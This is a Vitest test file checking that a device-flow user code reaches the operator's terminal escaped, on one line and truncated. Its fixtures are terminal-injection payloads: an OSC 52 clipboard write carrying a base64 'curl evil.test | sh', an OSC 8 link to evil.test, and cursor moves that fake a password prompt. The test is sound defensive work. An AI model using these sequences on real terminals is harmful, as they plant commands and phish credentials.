/**
 * The manual driver asks the operator at the terminal to type the device flow's user code, which
 * the target chose: it was printed as sent, so a user code carrying an OSC 52 sequence wrote the
 * operator's clipboard, an OSC 8 one printed a link to anywhere, and cursor moves or newlines
 * rewrote the question itself. It is now shown inert (`\u001b`), on one line and cut.
 */
import { describe, expect, it } from 'vitest';
import { createManualDriver } from '../../suites/drivers/manual.js';
import type { Http } from '../../suites/types.js';

const http = { baseUrl: 'http://127.0.0.1:9', leaves: () => undefined } as unknown as Http;

describe("the target's user code in the manual driver's question", () => {
  it('reaches the terminal inert, on one line, and cut', async () => {
    const questions: string[] = [];
    const driver = createManualDriver(http, {
      ask: async (q) => {
        questions.push(q);
        return '';
      },
    });
    const hostile = [
      '\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\u0007',
      '\u001b]8;;https://evil.test/\u0007WDJB-MJHT\u001b]8;;\u0007',
      '\u001b[1A\u001b[2K\rType your password here:\nX\u202eY',
      'ABCD-'.repeat(10_000),
    ];
    for (const code of hostile) await driver.approveDevice(code);
    for (const question of questions) {
      const shown = question.slice(question.indexOf('user code'));
      expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
      expect(shown.length).toBeLessThan(200);
    }
    expect(questions[0]).toContain('\\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\\u0007');
    expect(questions[2]).toContain('\\u001b[1A\\u001b[2K\\u000dType your password here:\\nX\\u202eY');
  });
});
